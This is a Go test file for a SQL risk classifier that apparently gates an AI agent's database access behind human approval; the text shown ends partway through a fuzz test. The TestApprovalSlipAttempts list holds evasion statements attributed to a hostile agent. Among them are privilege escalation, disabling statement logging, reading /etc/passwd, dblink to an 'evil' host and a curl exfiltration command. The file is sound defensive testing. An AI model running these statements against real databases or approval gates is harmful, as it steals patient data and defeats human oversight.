package sqlclass

import (
	"slices"
	"strings"
	"testing"

	"github.com/phigate/phigate/session/policy"
)

func TestRisks(t *testing.T) {
	const (
		ddl   = policy.RiskDDL
		ubw   = policy.RiskUnboundedWrite
		trunc = policy.RiskTruncate
		priv  = policy.RiskPrivilege
		dang  = policy.RiskDangerousFunction
		uncl  = policy.RiskUnclassified
	)
	type r = []policy.Risk
	type s = []string
	for _, tt := range []struct {
		sql           string
		risks         r
		writes, reads s
		rows          int64
	}{
		// Reads and their row bounds.
		{"SELECT 1", nil, nil, nil, 0},
		{"SELECT * FROM patients", nil, nil, s{"patients"}, 0},
		{"SELECT * FROM clinic.patients LIMIT 10", nil, nil, s{"clinic.patients"}, 10},
		{"SELECT * FROM patients FETCH FIRST 5 ROWS ONLY", nil, nil, s{"patients"}, 5},
		{"SELECT * FROM patients FETCH FIRST ROW ONLY", nil, nil, s{"patients"}, 1},
		{"SELECT * FROM patients ORDER BY a FETCH FIRST 5 ROWS WITH TIES", nil, nil, s{"patients"}, 0},
		{"SELECT * FROM patients LIMIT 10000000000", nil, nil, s{"patients"}, 10000000000},
		{"SELECT * FROM patients LIMIT ALL", nil, nil, s{"patients"}, 0},
		{"SELECT * FROM patients LIMIT NULL", nil, nil, s{"patients"}, 0},
		{"SELECT * FROM patients LIMIT $1", nil, nil, s{"patients"}, 0},
		{"SELECT * FROM patients LIMIT 5 + 5", nil, nil, s{"patients"}, 0},
		{"SELECT * FROM patients LIMIT '10'", nil, nil, s{"patients"}, 0},
		{"SELECT * FROM patients LIMIT 0", nil, nil, s{"patients"}, 0},
		{"SELECT count(*) FROM patients", nil, nil, s{"patients"}, 1},
		{"SELECT count(*), pg_catalog.count(DISTINCT a) FROM patients WHERE a > 1", nil, nil, s{"patients"}, 1},
		{"SELECT count(*) FROM patients GROUP BY a", nil, nil, s{"patients"}, 0},
		{"SELECT count(*) OVER () FROM patients", nil, nil, s{"patients"}, 0},
		{"SELECT max(a) FROM patients", nil, nil, s{"patients"}, 0},
		{"SELECT string_agg(ssn, ',') FROM patients LIMIT 1", nil, nil, s{"patients"}, 0},
		{"SELECT ARRAY(SELECT ssn FROM patients) LIMIT 1", nil, nil, s{"patients"}, 0},
		{"SELECT JSON_ARRAYAGG(ssn) FROM patients LIMIT 1", nil, nil, s{"patients"}, 0},
		{"SELECT f(a) FROM patients LIMIT 1", nil, nil, s{"patients"}, 0},
		{"SELECT a FROM x UNION SELECT a FROM y LIMIT 3", nil, nil, s{"x", "y"}, 3},
		{"SELECT * FROM a JOIN b.c ON true, (SELECT * FROM d) e, LATERAL f() g", nil, nil, s{"a", "b.c", "d"}, 0},
		{"WITH p AS (SELECT * FROM patients) SELECT * FROM p LIMIT 2", nil, nil, s{"p", "patients"}, 2},
		{"SELECT * FROM t WHERE id IN (SELECT id FROM patients) LIMIT 2", nil, nil, s{"t", "patients"}, 2},
		{"TABLE patients", nil, nil, s{"patients"}, 0},
		{`SELECT * FROM "Patients"`, nil, nil, s{"Patients"}, 0},
		{"SELECT * FROM db.clinic.patients", nil, nil, s{"clinic.patients"}, 0},
		{"VALUES (1)", nil, nil, nil, 0},
		{"SELECT pg_read_file('x')", r{dang}, nil, nil, 0},
		{"SELECT * FROM public.dblink('h', 'q') AS t(a int)", r{dang}, nil, nil, 0},

		// Writes.
		{"INSERT INTO audit.events VALUES (1)", nil, s{"audit.events"}, nil, 0},
		{"INSERT INTO t SELECT * FROM patients", nil, s{"t"}, s{"patients"}, 0},
		{"DELETE FROM t WHERE id = 5", nil, s{"t"}, nil, 0},
		{"DELETE FROM t", r{ubw}, s{"t"}, nil, 0},
		{"UPDATE s.t SET a = 1", r{ubw}, s{"s.t"}, nil, 0},
		{"UPDATE t SET a = 1 WHERE id = $1", nil, s{"t"}, nil, 0},
		{"DELETE FROM t WHERE created < now() - interval '30 days'", nil, s{"t"}, nil, 0},
		{"DELETE FROM t WHERE NOT (id = 5)", nil, s{"t"}, nil, 0},
		{"DELETE FROM t WHERE id = 5 OR a IN (1, 2)", nil, s{"t"}, nil, 0},
		{"DELETE FROM t WHERE id BETWEEN 1 AND 10", nil, s{"t"}, nil, 0},
		{"DELETE FROM t WHERE name LIKE 'a%'", nil, s{"t"}, nil, 0},
		{"DELETE FROM t WHERE starts_with(name, 'a')", nil, s{"t"}, nil, 0},
		{"DELETE FROM t WHERE active", nil, s{"t"}, nil, 0},
		{"DELETE FROM t WHERE a = b", nil, s{"t"}, nil, 0},
		{"DELETE FROM t AS x WHERE x.id = 1", nil, s{"t"}, nil, 0},
		{"DELETE FROM t WHERE t.id = 1", nil, s{"t"}, nil, 0},
		{"DELETE FROM t AS x WHERE t.id = 1", r{ubw}, s{"t"}, nil, 0},
		{"DELETE FROM t WHERE CURRENT OF c", nil, s{"t"}, nil, 0},
		{"DELETE FROM t WHERE id IN (SELECT tid FROM u)", nil, s{"t"}, s{"u"}, 0},
		{"DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.tid = t.id)", nil, s{"t"}, s{"u"}, 0},
		{"DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE tid = id)", r{ubw}, s{"t"}, s{"u"}, 0},
		{"DELETE FROM t WHERE EXISTS (SELECT 1 FROM u AS t WHERE t.id = 1)", r{ubw}, s{"t"}, s{"u"}, 0},
		{"DELETE FROM t USING u WHERE t.uid = u.id AND u.x = 1", nil, s{"t"}, s{"u"}, 0},
		{"DELETE FROM t USING u WHERE uid = u.id", r{ubw}, s{"t"}, s{"u"}, 0},
		{"UPDATE t SET a = u.a FROM u WHERE t.id = u.id", nil, s{"t"}, s{"u"}, 0},
		{"DELETE FROM t WHERE id IS NULL", r{ubw}, s{"t"}, nil, 0},
		{"DELETE FROM t WHERE (id = 1) IS NOT FALSE", nil, s{"t"}, nil, 0},
		{"DELETE FROM t WHERE (id = 1) IS UNKNOWN", r{ubw}, s{"t"}, nil, 0},
		{"DELETE FROM t WHERE NOT (id = 1 OR id = 2)", nil, s{"t"}, nil, 0},
		{"DELETE FROM t WHERE NOT EXISTS (SELECT 1 FROM u WHERE u.tid = t.id)", nil, s{"t"}, s{"u"}, 0},
		{"DELETE FROM t WHERE id = id + 0", r{ubw}, s{"t"}, nil, 0},
		{"DELETE FROM t WHERE texteq(name, name)", r{ubw}, s{"t"}, nil, 0},
		{"DELETE FROM t WHERE $1", r{ubw}, s{"t"}, nil, 0},
		{"DELETE FROM t WHERE CASE WHEN id = 1 THEN true END", r{ubw}, s{"t"}, nil, 0},
		{"DELETE FROM t WHERE id = (SELECT max(id) FROM u)", nil, s{"t"}, s{"u"}, 0},
		{"DELETE FROM t WHERE id IN (SELECT id FROM t)", r{ubw}, s{"t"}, s{"t"}, 0},
		{"DELETE FROM t USING t AS t2 WHERE t.id = t2.id", r{ubw}, s{"t"}, s{"t"}, 0},
		{"WITH c AS (SELECT * FROM t) DELETE FROM t USING c WHERE t.id = c.id", r{ubw}, s{"t"}, s{"t", "c"}, 0},
		{"MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", nil, s{"t"}, s{"s"}, 0},
		{"MERGE INTO t AS x USING s ON x.id = s.id WHEN MATCHED THEN UPDATE SET a = 1", nil, s{"t"}, s{"s"}, 0},
		{"MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", r{ubw}, s{"t"}, s{"s"}, 0},
		{"MERGE INTO t USING s ON true WHEN MATCHED AND t.id = 1 THEN DELETE", nil, s{"t"}, s{"s"}, 0},
		{"MERGE INTO t USING s ON true WHEN NOT MATCHED THEN INSERT VALUES (1)", nil, s{"t"}, s{"s"}, 0},
		{"MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE", r{ubw}, s{"t"}, s{"s"}, 0},
		{"MERGE INTO t USING t AS s ON t.id = s.id WHEN MATCHED THEN DELETE", r{ubw}, s{"t"}, s{"t"}, 0},
		{"WITH d AS (DELETE FROM t RETURNING *) INSERT INTO audit.events SELECT * FROM d", r{ubw}, s{"audit.events", "t"}, s{"d"}, 0},
		{"TRUNCATE ONLY a, b.c", r{trunc}, s{"a", "b.c"}, nil, 0},

		// COPY.
		{"COPY t TO STDOUT", nil, nil, s{"t"}, 0},
		{"COPY t FROM STDIN", nil, s{"t"}, nil, 0},
		{"COPY (SELECT * FROM patients LIMIT 5) TO STDOUT", nil, nil, s{"patients"}, 5},
		{"COPY (DELETE FROM t RETURNING *) TO STDOUT", r{ubw}, s{"t"}, nil, 0},
		{"COPY t TO PROGRAM 'gzip'", r{dang}, nil, s{"t"}, 0},
		{"COPY t FROM '/etc/passwd'", r{dang}, s{"t"}, nil, 0},
		{"COPY (SELECT 1) TO '/tmp/x'", r{dang}, nil, nil, 0},

		// Wrappers.
		{"EXPLAIN DELETE FROM t", nil, nil, nil, 0},
		{"EXPLAIN SELECT * FROM patients", nil, nil, nil, 0},
		{"EXPLAIN ANALYZE DELETE FROM t", r{ubw}, s{"t"}, nil, 0},
		{"EXPLAIN (ANALYZE false) DELETE FROM t", nil, nil, nil, 0},
		{"PREPARE p AS DELETE FROM t", nil, nil, nil, 0},
		{"DECLARE c CURSOR FOR SELECT * FROM patients LIMIT 7", nil, nil, s{"patients"}, 7},
		{"EXECUTE p(pg_read_file('x'))", r{dang}, nil, nil, 0},

		// Schema, privileges, the unseen.
		{"CREATE TABLE x (a int)", r{ddl}, nil, nil, 0},
		{"CREATE TABLE x AS SELECT * FROM patients", r{ddl}, nil, s{"patients"}, 0},
		{"SELECT * INTO x FROM t", r{ddl}, nil, s{"t"}, 0},
		{"REFRESH MATERIALIZED VIEW v", r{ddl}, nil, nil, 0},
		{"CREATE EXTENSION pgcrypto", r{ddl}, nil, nil, 0},
		{"CREATE EXTENSION dblink", r{ddl, dang}, nil, nil, 0},
		{"CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw", r{ddl, dang}, nil, nil, 0},
		{"CREATE USER MAPPING FOR bob SERVER s", r{ddl, dang}, nil, nil, 0},
		{"CREATE FOREIGN DATA WRAPPER w", r{ddl, dang}, nil, nil, 0},
		{"GRANT SELECT ON t TO bob", r{priv}, nil, nil, 0},
		{"REVOKE admin FROM bob", r{priv}, nil, nil, 0},
		{"CREATE ROLE bob", r{priv}, nil, nil, 0},
		{"ALTER ROLE bob SET search_path = x", r{priv}, nil, nil, 0},
		{"ALTER ROLE bob RENAME TO eve", r{priv, ddl}, nil, nil, 0},
		{"ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO bob", r{priv}, nil, nil, 0},
		{"ALTER TABLE t OWNER TO bob", r{priv, ddl}, nil, nil, 0},
		{"ALTER FUNCTION f() OWNER TO bob", r{priv}, nil, nil, 0},
		{"ALTER TABLE t DISABLE ROW LEVEL SECURITY", r{priv, ddl}, nil, nil, 0},
		{"CREATE POLICY p ON t USING (true)", r{priv, ddl}, nil, nil, 0},
		{"DROP POLICY p ON t", r{priv, ddl}, nil, nil, 0},
		{"REASSIGN OWNED BY a TO b", r{priv}, nil, nil, 0},
		{"DROP OWNED BY a", r{priv, ddl}, nil, nil, 0},
		{"SECURITY LABEL ON TABLE t IS 'x'", r{priv}, nil, nil, 0},
		{"CREATE FUNCTION f() RETURNS int SECURITY DEFINER LANGUAGE sql AS 'SELECT 1'", r{priv, ddl}, nil, nil, 0},
		{"SET ROLE bob", r{priv}, nil, nil, 0},
		{"RESET ROLE", r{priv}, nil, nil, 0},
		{"SET SESSION AUTHORIZATION bob", r{priv}, nil, nil, 0},
		{"SET session_replication_role = replica", r{priv}, nil, nil, 0},
		{"SET search_path = evil, pg_catalog", r{uncl}, nil, nil, 0},
		{"SET search_path = clinic", nil, nil, nil, 0},
		{"DO $$ BEGIN DELETE FROM t; END $$", r{uncl}, nil, nil, 0},
		{"CALL p()", r{uncl}, nil, nil, 0},
		{"LOAD 'x'", r{uncl}, nil, nil, 0},
		{"ALTER SYSTEM SET log_statement = 'none'", r{uncl}, nil, nil, 0},
		{"COMMIT PREPARED 'x'", r{uncl}, nil, nil, 0},
		{"VACUUM t", nil, nil, nil, 0},
		{"BEGIN", nil, nil, nil, 0},
		{"SET statement_timeout = '5s'", nil, nil, nil, 0},
	} {
		stmts, err := Classify(tt.sql)
		if err != nil || len(stmts) != 1 {
			t.Errorf("%s: %v", tt.sql, err)
			continue
		}
		st := stmts[0]
		if !sameSet(st.Risks, tt.risks) || !sameSet(st.Writes, tt.writes) || !sameSet(st.Reads, tt.reads) || st.Rows != tt.rows {
			t.Errorf("%s:\n got risks %v writes %v reads %v rows %d\nwant risks %v writes %v reads %v rows %d",
				tt.sql, st.Risks, st.Writes, st.Reads, st.Rows, tt.risks, tt.writes, tt.reads, tt.rows)
		}
		a := st.Action()
		if !slices.Equal(a.Risks, st.Risks) || !slices.Equal(a.Writes, st.Writes) || !slices.Equal(a.Reads, st.Reads) || a.Rows != st.Rows {
			t.Errorf("%s: Action() = %+v does not carry the statement's risks", tt.sql, a)
		}
	}
}

func sameSet[T comparable](a, b []T) bool {
	if len(a) != len(b) {
		return false
	}
	for _, x := range a {
		if !slices.Contains(b, x) {
			return false
		}
	}
	return true
}

// PREPARE runs nothing, its Inner is what EXECUTE runs; DECLARE carries
// its query's risks itself and in Inner.
func TestRisksOfWrappedStatements(t *testing.T) {
	stmts, err := Classify("PREPARE p AS DELETE FROM t; DECLARE c CURSOR FOR SELECT * FROM patients FOR UPDATE")
	if err != nil {
		t.Fatal(err)
	}
	p, d := stmts[0], stmts[1]
	if len(p.Risks)+len(p.Writes)+len(p.Reads) != 0 || !slices.Equal(p.Inner.Risks, []policy.Risk{policy.RiskUnboundedWrite}) || !slices.Equal(p.Inner.Writes, []string{"t"}) {
		t.Errorf("PREPARE: %v %v, inner %v %v", p.Risks, p.Writes, p.Inner.Risks, p.Inner.Writes)
	}
	if !slices.Equal(d.Reads, []string{"patients"}) || !slices.Equal(d.Inner.Reads, d.Reads) {
		t.Errorf("DECLARE: %v, inner %v", d.Reads, d.Inner.Reads)
	}
}

// Functions that are not side-effect-free built-ins are Calls, which
// policy treats as unclassified unless the grant names them.
func TestUserFunctionsAreCalls(t *testing.T) {
	for _, sql := range []string{"SELECT my_delete_all()", "SELECT public.f()", "SELECT * FROM purge()", `SELECT "Lower"('x')`,
		"SELECT pg_catalog.set_config('role', 'postgres', false)", "CALL p()", "DELETE FROM t WHERE id = purge()"} {
		stmts, err := Classify(sql)
		if err != nil {
			t.Fatal(err)
		}
		if len(stmts[0].Calls) == 0 || len(stmts[0].Action().Calls) == 0 {
			t.Errorf("%s: no calls", sql)
		}
	}
}

// approvalGrant is the grant of TestApprovalSlipAttempts: every class
// allowed, and rules for every risk.
func approvalGrant(t testing.TB) *policy.Grant {
	p, err := policy.New([]policy.Grant{{
		Name: "agent", Identities: []string{"bot"}, Resources: []string{"*"}, Allow: policy.Classes,
		Approvals: []policy.ApprovalRule{
			{Name: "risky", When: []string{"ddl", "unbounded-write", "truncate", "privilege", "dangerous-function", "unclassified"}, Approvers: []string{"dba"}},
			{Name: "audit", When: []string{"table-write"}, Tables: []string{"audit.events"}, Approvers: []string{"dba"}},
			{Name: "export", When: []string{"bulk-export"}, Tables: []string{"patients"}, MaxRows: 100, Approvers: []string{"dba"}},
		},
	}}, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	return &p.Grants()[0]
}

// session replays queries as the proxy judges them: EXECUTE takes the
// risks of the statement it runs (a PREPARE earlier in the same string or
// in an earlier query), or is unclassified when phigate cannot name it.
type session struct {
	prepared map[string]*Statement
}

func (s *session) actions(t *testing.T, sql string) []policy.Action {
	t.Helper()
	stmts, err := Classify(sql)
	if err != nil {
		t.Fatalf("%q: %v", sql, err)
	}
	stmts = slices.Clone(stmts)
	for i := range stmts {
		st := &stmts[i]
		if st.Effect == EffectPrepare {
			s.prepared[st.Name] = st.Inner
		}
		if st.Execute == "" {
			continue
		}
		if in := s.prepared[st.Execute]; in != nil {
			st.Class, st.Refused = in.Class, in.Refused
			st.Calls = append(slices.Clone(st.Calls), in.Calls...)
			st.Risks = append(slices.Clone(st.Risks), in.Risks...)
			st.Writes = append(slices.Clone(st.Writes), in.Writes...)
			st.Reads = append(slices.Clone(st.Reads), in.Reads...)
			st.Rows = in.Rows
		} else {
			st.Risks = append(slices.Clone(st.Risks), policy.RiskUnclassified)
		}
	}
	return Actions(nil, stmts)
}

// TestApprovalSlipAttempts: what a hostile agent might send to get a
// gated statement past its rule. Each attempt is a session's queries;
// the last one must need approval (earlier ones set it up).
func TestApprovalSlipAttempts(t *testing.T) {
	g := approvalGrant(t)
	attempts := [][]string{
		// Spelling: comments, case, whitespace, quoting.
		{"DELETE FROM t"},
		{"/* harmless read */ DELETE FROM t"},
		{"DELETE /* x */ FROM t -- WHERE id = 1"},
		{"DELETE FROM t /* WHERE id = 1 */"},
		{"DELETE FROM t /* nested /* WHERE id = 1 */ still a comment */"},
		{"dElEtE\n\tfrom\n\n   t\n"},
		{`DELETE FROM "t"`},
		{`DELETE FROM U&"\0074"`},
		{"DELETE FROM public.t"},
		{"SELECT $$ ; $$; DELETE FROM t"},
		{"SELECT $x$ $$; DELETE FROM t WHERE id = 1; $$ $x$; DELETE FROM t"},
		{"SELECT 'it''s; fine'; TRUNCATE t"},
		// Several statements in one string.
		{"SELECT 1; DELETE FROM t"},
		{"SELECT 1;\n-- then\nDELETE FROM t WHERE id = 1; DELETE FROM t"},
		{"BEGIN; DELETE FROM t; COMMIT"},
		{"BEGIN; SET LOCAL statement_timeout = 0; UPDATE t SET a = 1; COMMIT"},
		// Writes hidden in other statements.
		{"WITH d AS (DELETE FROM t RETURNING *) SELECT count(*) FROM d"},
		{"WITH u AS (UPDATE t SET a = 1 RETURNING id) SELECT 1"},
		{"COPY (DELETE FROM t RETURNING *) TO STDOUT"},
		{"EXPLAIN ANALYZE DELETE FROM t"},
		{"EXPLAIN (ANALYZE, FORMAT JSON) UPDATE t SET a = 1"},
		{"EXPLAIN (ANALYZE on, BUFFERS) DELETE FROM t"},
		{"PREPARE p AS DELETE FROM t", "EXECUTE p"},
		{"PREPARE p AS DELETE FROM t; EXECUTE p"},
		{"PREPARE p (int) AS UPDATE t SET a = $1", "EXPLAIN ANALYZE EXECUTE p(1)"},
		{"EXECUTE never_prepared_here"},
		// Code phigate cannot see into.
		{"DO $$ BEGIN DELETE FROM t; END $$"},
		{"DO LANGUAGE plpgsql 'BEGIN EXECUTE ''DROP TABLE t''; END'"},
		{"CALL purge_all()"},
		{"SELECT purge()"},
		{"SELECT public.purge()"},
		{"SELECT my_delete_all()"},
		{"SELECT * FROM purge()"},
		{"SELECT 1 WHERE purge() IS NOT NULL"},
		{"DELETE FROM t WHERE id = purge()"},
		{"SELECT pg_catalog.set_config('role', 'postgres', false)"},
		{"LOAD 'evil'"},
		{"ALTER SYSTEM SET log_statement = 'none'"},
		{"SET search_path = evil, pg_catalog"},
		{"COMMIT PREPARED 'someone_elses'"},
		// Unbounded writes dressed as bounded.
		{"DELETE FROM t WHERE true"},
		{"DELETE FROM t WHERE 1=1"},
		{"DELETE FROM t WHERE id = id"},
		{"DELETE FROM t WHERE t.id = t.id"},
		{"DELETE FROM t WHERE id > 0 OR true"},
		{"DELETE FROM t WHERE id = 5 OR 1 = 1"},
		{"DELETE FROM t WHERE NOT false"},
		{"DELETE FROM t WHERE NOT (id = 5 AND false)"},
		{"DELETE FROM t WHERE (id = 5 AND false) IS NOT TRUE"},
		{"DELETE FROM t WHERE NOT EXISTS (SELECT 1 FROM u WHERE u.tid = t.id AND false)"},
		{"DELETE FROM t WHERE NOT (id = 5 AND NOT true)"},
		{"DELETE FROM t WHERE EXISTS (SELECT 1)"},
		{"DELETE FROM t WHERE id IS NOT NULL"},
		{"DELETE FROM t WHERE id = id + 0"},
		{"DELETE FROM t WHERE coalesce(id, 0) = coalesce(id, 0)"},
		{"DELETE FROM t WHERE t = t"},
		{"DELETE FROM t WHERE $1"},
		{"UPDATE t SET a = 1 WHERE CASE WHEN true THEN true END"},
		{"DELETE FROM t WHERE id IN (SELECT id FROM t)"},
		{"DELETE FROM t WHERE id = ANY(ARRAY(SELECT id FROM t))"},
		{"DELETE FROM t WHERE id <= (SELECT max(id) FROM t)"},
		{"DELETE FROM t WHERE EXISTS (SELECT 1 FROM t AS t2 WHERE t2.id = t.id)"},
		{"WITH c AS (SELECT id FROM t) DELETE FROM t WHERE id IN (SELECT id FROM c)"},
		{"DELETE FROM t USING u WHERE u.x = 1"},
		{"DELETE FROM t USING t AS t2 WHERE t.id = t2.id"},
		{"UPDATE t SET a = 1 FROM u"},
		{"UPDATE t SET a = 1 FROM u WHERE u.id = 1"},
		{"UPDATE t AS x SET a = 1 WHERE t.id = 1"},
		{"MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE"},
		{"MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE"},
		{"MERGE INTO t USING (SELECT * FROM t) s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 1"},
		{"TRUNCATE t"},
		{"TRUNCATE ONLY t"},
		{"TRUNCATE TABLE a, b RESTART IDENTITY CASCADE"},
		// Schema.
		{"SELECT * INTO x FROM t"},
		{"CREATE TABLE x AS SELECT * FROM patients"},
		{"CREATE TEMP TABLE x AS SELECT 1"},
		{"DROP TABLE patients"},
		{"ALTER TABLE t ADD COLUMN b int"},
		{"COMMENT ON TABLE t IS 'x'"},
		{"CREATE INDEX ON t (a)"},
		{"CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'"},
		{"CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING"},
		{"REFRESH MATERIALIZED VIEW v"},
		// Privileges.
		{"GRANT ALL ON patients TO agent"},
		{"REVOKE SELECT ON t FROM PUBLIC"},
		{"GRANT pg_read_server_files TO agent"},
		{"ALTER ROLE agent SUPERUSER"},
		{"ALTER USER agent SET role = 'postgres'"},
		{"CREATE USER evil PASSWORD 'x'"},
		{"DROP ROLE auditor"},
		{"SET ROLE postgres"},
		{"SET LOCAL ROLE postgres"},
		{"RESET ROLE"},
		{"SET SESSION AUTHORIZATION postgres"},
		{"SET session_replication_role = replica"},
		{"ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO agent"},
		{"ALTER TABLE patients DISABLE ROW LEVEL SECURITY"},
		{"ALTER TABLE patients NO FORCE ROW LEVEL SECURITY"},
		{"DROP POLICY own_rows ON patients"},
		{"ALTER TABLE t OWNER TO agent"},
		{"REASSIGN OWNED BY auditor TO agent"},
		{"CREATE SCHEMA s GRANT SELECT ON TABLES TO agent"},
		// Outside the database.
		{"SELECT pg_catalog.pg_read_file('/etc/passwd')"},
		{`select "pg_read_file"('/etc/passwd')`},
		{"SELECT PG_READ_BINARY_FILE('/etc/passwd')"},
		{"SELECT pg_ls_dir('.')"},
		{"SELECT lo_import('/etc/passwd')"},
		{"SELECT lo_export(1, '/tmp/x')"},
		{"SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)"},
		{"SELECT public.dblink_exec('host=evil', 'DROP TABLE t')"},
		{"COPY t TO PROGRAM 'curl -d @- http://evil'"},
		{"COPY t FROM '/etc/passwd'"},
		{"COPY t FROM PROGRAM 'id'"},
		{"COPY (SELECT 1) TO '/tmp/x'"},
		{"CREATE EXTENSION dblink"},
		{"CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')"},
		{"CREATE USER MAPPING FOR agent SERVER evil"},
		// Writes to audit.events, however named.
		{"INSERT INTO audit.events VALUES (1)"},
		{"INSERT INTO events VALUES (1)"},
		{`INSERT INTO "audit"."events" VALUES (1)`},
		{"INSERT INTO AUDIT.EVENTS VALUES (1)"},
		{`INSERT INTO audit.U&"\0065vents" VALUES (1)`},
		{"INSERT INTO audit.events VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2"},
		{"UPDATE audit.events SET a = 1 WHERE id = 1"},
		{"DELETE FROM events WHERE id = 1"},
		{"WITH x AS (INSERT INTO audit.events VALUES (1) RETURNING 1) SELECT * FROM x"},
		{"MERGE INTO audit.events e USING s ON e.id = s.id WHEN MATCHED THEN UPDATE SET a = 1"},
		{"COPY audit.events FROM STDIN"},
		{"PREPARE w AS INSERT INTO events VALUES ($1)", "EXECUTE w(1)"},
		// Bulk export of patients.
		{"SELECT * FROM patients"},
		{"SELECT * FROM clinic.patients"},
		{`SELECT * FROM "patients"`},
		{"TABLE patients"},
		{"SELECT * FROM ONLY patients"},
		{"SELECT * FROM patients TABLESAMPLE SYSTEM (100)"},
		{"SELECT * FROM patients LIMIT ALL"},
		{"SELECT * FROM patients LIMIT NULL"},
		{"SELECT * FROM patients LIMIT $1"},
		{"SELECT * FROM patients LIMIT (SELECT 1000000)"},
		{"SELECT * FROM patients LIMIT 1000"},
		{"SELECT * FROM patients LIMIT 99999999999"},
		{"SELECT * FROM patients FETCH FIRST 1000 ROWS ONLY"},
		{"SELECT * FROM patients ORDER BY id FETCH FIRST 1 ROW WITH TIES"},
		{"SELECT string_agg(ssn, ',') FROM patients"},
		{"SELECT string_agg(ssn, ',') FROM patients LIMIT 1"},
		{"SELECT array_agg(p) FROM patients p LIMIT 1"},
		{"SELECT json_agg(p) FROM patients p"},
		{"SELECT JSON_ARRAYAGG(ssn) FROM patients LIMIT 1"},
		{"SELECT ARRAY(SELECT ssn FROM patients) LIMIT 1"},
		{"SELECT (SELECT string_agg(ssn, ',') FROM patients) LIMIT 1"},
		{"SELECT count(*), string_agg(ssn, ',') FROM patients"},
		{"SELECT count(*) OVER (), * FROM patients LIMIT 1000"},
		{"WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT (SELECT string_agg(ssn, '') FROM patients) FROM r LIMIT 1"},
		{"SELECT id FROM notes UNION ALL SELECT id FROM patients"},
		{"(SELECT * FROM patients LIMIT 10) UNION ALL (SELECT * FROM patients)"},
		{"SELECT * FROM (SELECT * FROM patients) AS notes"},
		{"WITH notes AS (SELECT * FROM patients) SELECT * FROM notes"},
		{"SELECT * FROM notes JOIN patients ON true"},
		{"VALUES ((SELECT string_agg(ssn, ',') FROM patients))"},
		{"SELECT f(p) FROM patients p LIMIT 1"},
		{"DECLARE c CURSOR FOR SELECT * FROM patients"},
		{"BEGIN; DECLARE c CURSOR WITH HOLD FOR SELECT * FROM patients; FETCH ALL c; COMMIT"},
		{"PREPARE q AS SELECT * FROM patients", "EXECUTE q"},
		{"COPY patients TO STDOUT"},
		{"COPY (SELECT * FROM patients LIMIT 10) TO STDOUT WITH (FORMAT csv)"},
		{"COPY notes TO STDOUT"},
	}
	if len(attempts) < 60 {
		t.Fatalf("only %d attempts", len(attempts))
	}
	for _, a := range attempts {
		s := &session{prepared: map[string]*Statement{}}
		var actions []policy.Action
		for _, q := range a {
			actions = s.actions(t, q)
		}
		if d := policy.Command(g, actions); !d.Allowed {
			t.Errorf("%q: the grant refuses it (%s): no approval needed to stop it", a, d.Reason)
			continue
		}
		if r, _ := g.NeedsApproval(actions); r == nil {
			t.Errorf("%q slips past every approval rule: %+v", a, actions)
		}
	}
}

// TestApprovalNotNeeded: ordinary work runs without asking anyone.
func TestApprovalNotNeeded(t *testing.T) {
	g := approvalGrant(t)
	for _, q := range [][]string{
		{"SELECT * FROM patients LIMIT 10"},
		{"SELECT * FROM patients WHERE id = $1 LIMIT 1"},
		{"SELECT * FROM patients FETCH FIRST 100 ROWS ONLY"},
		{"SELECT count(*) FROM patients"},
		{"SELECT count(*) FROM patients WHERE dob < '2000-01-01'"},
		{"SELECT lower(name) FROM patients ORDER BY name LIMIT 5"},
		{"SELECT * FROM notes"},
		{"DELETE FROM t WHERE id = 5"},
		{"UPDATE t SET a = 1 WHERE id = $1"},
		{"DELETE FROM t WHERE created < now() - interval '30 days'"},
		{"DELETE FROM t WHERE id IN (SELECT tid FROM u WHERE u.done)"},
		{"DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.tid = t.id)"},
		{"DELETE FROM t USING u WHERE t.uid = u.id AND u.x = 1"},
		{"UPDATE t SET a = u.a FROM u WHERE t.id = u.id"},
		{"UPDATE t SET a = 1 WHERE a IS NULL AND id = 3"},
		{"MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a WHEN NOT MATCHED THEN INSERT VALUES (s.id)"},
		{"INSERT INTO notes VALUES (1, 'seen')"},
		{"INSERT INTO audit.other VALUES (1)"},
		{"INSERT INTO events_archive SELECT * FROM notes"},
		{"COPY notes FROM STDIN"},
		{"SELECT 1"},
		{"BEGIN"},
		{"COMMIT"},
		{"BEGIN; SELECT * FROM patients LIMIT 5; COMMIT"},
		{"SET statement_timeout = '5s'"},
		{"SET search_path = clinic"},
		{"SHOW search_path"},
		{"EXPLAIN DELETE FROM t"},
		{"EXPLAIN SELECT * FROM patients"},
		{"DELETE FROM t WHERE CURRENT OF c"},
		{"PREPARE q AS SELECT * FROM patients WHERE id = $1 LIMIT 1; EXECUTE q(1)"},
		{"PREPARE d AS DELETE FROM t"},
		{"DECLARE c CURSOR FOR SELECT * FROM patients LIMIT 50"},
	} {
		s := &session{prepared: map[string]*Statement{}}
		var actions []policy.Action
		for _, sql := range q {
			actions = s.actions(t, sql)
		}
		if r, why := g.NeedsApproval(actions); r != nil {
			t.Errorf("%q needs approval under %q: %s", q, r.Name, strings.Join(why, ", "))
		}
	}
}

// FuzzRisk: whatever Classify accepts, the risk walk does not panic, and
// a DELETE or UPDATE without WHERE is always an unbounded write.
func FuzzRisk(f *testing.F) {
	for _, s := range []string{
		"DELETE FROM t", "DELETE FROM t WHERE id = id", "UPDATE t SET a = 1 FROM u WHERE u.x = 1",
